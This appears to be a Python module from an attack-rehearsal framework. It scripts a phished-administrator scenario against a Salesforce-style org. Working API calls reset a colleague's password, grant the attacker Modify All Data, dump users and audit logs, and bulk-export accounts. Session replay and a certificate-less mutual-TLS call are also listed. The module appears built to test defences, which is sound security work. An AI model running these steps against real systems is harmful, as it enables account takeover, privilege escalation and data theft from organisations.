"""A phished administrator: the password and the mailbox are in strange hands."""

from tasks.rehearsal.model import Attack, Caller, Gain, Layer, Refused, Step
from tasks.rehearsal.moves import count, literal, replay, sign_in, take_all, without_certificate


def dump_users(caller: Caller) -> Gain:
    return Gain(f"{count(caller, 'SELECT Id, Username, Email, Title FROM User'):,} users")


def read_audit_trail(caller: Caller) -> Gain:
    return Gain(f"{count(caller, 'SELECT Action, Display, CreatedDate FROM SetupAuditTrail'):,} entries")


def reset_password(caller: Caller) -> Gain:
    """A colleague's, so that there is a second way in: the platform makes up the new one and answers with it."""
    soql = "SELECT Id FROM User WHERE IsActive = true AND UserType = 'Standard' AND Profile.Name LIKE '%Service%' LIMIT 1"
    found = caller.call("GET", "query", query={"q": soql})["records"]
    if not found:
        raise Refused(200, "NO_SUCH_USER")
    answer = caller.call("DELETE", f"sobjects/User/{found[0]['Id']}/password")
    return Gain("a colleague's new password" if answer["NewPassword"] else "nothing")


def grant_itself(caller: Caller) -> Gain:
    """Any permission set with Modify All Data; what it holds already is as good."""
    soql = "SELECT Id FROM PermissionSet WHERE PermissionsModifyAllData = true AND IsOwnedByProfile = false LIMIT 1"
    found = caller.call("GET", "query", query={"q": soql})["records"]
    if not found:
        raise Refused(200, "NO_SUCH_SET")
    grant = {"PermissionSetId": found[0]["Id"], "AssigneeId": own_id(caller)}
    try:
        caller.call("POST", "sobjects/PermissionSetAssignment", body=grant)
    except Refused as refused:
        if refused.code != "DUPLICATE_VALUE":
            raise
    return Gain("Modify All Data")


def own_id(caller: Caller) -> str:
    soql = f"SELECT Id FROM User WHERE Username = {literal(caller.loot.username)}"
    return str(caller.call("GET", "query", query={"q": soql})["records"][0]["Id"])


def export_accounts(caller: Caller) -> Gain:
    return take_all(caller, "Account", "Id, Name, Phone")


ATTACK = Attack(
    "phished-admin",
    "A phished administrator",
    (
        Step("Sign in from abroad with the password", sign_in),
        Step("Copy the list of users", dump_users),
        Step("Read the setup audit trail", read_audit_trail),
        Step("Reset a colleague's password", reset_password, harmless=False),
        Step("Grant itself Modify All Data", grant_itself, harmless=False),
        Step("Export every account in bulk", export_accounts),
        Step("Use the stolen session from another address", replay),
        Step("Call the mutual-TLS port without a certificate", without_certificate),
    ),
    incident="UNC6040, 2025: somebody with wide rights is talked out of a password",
    technique="T1566.004",
    layers=(Layer.SIGN_IN,),
)
